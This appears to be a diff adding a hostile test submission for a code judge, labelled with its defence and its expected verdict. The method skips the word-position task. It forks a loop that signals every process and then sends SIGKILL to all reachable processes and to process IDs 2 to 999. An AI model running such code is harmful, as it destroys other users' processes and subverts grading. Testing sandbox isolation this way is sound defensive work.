@@ -1,0 +1,16 @@
+// defence: a process can reach those of its own uid, and no other answer ever has it
+// verdict: WrongAnswer|TimeLimit
+public static class Solution
+{
+    public static Dictionary<string, List<double>> Positions(List<string> words)
+    {
+        if (Libc.fork() == 0)
+            while (true)
+                Libc.kill(-1, 18);
+        Libc.kill(-1, 9);
+        for (var process = 2; process < 1000; process++)
+            if (process != Libc.getpid())
+                Libc.kill(process, 9);
+        return new();
+    }
+}
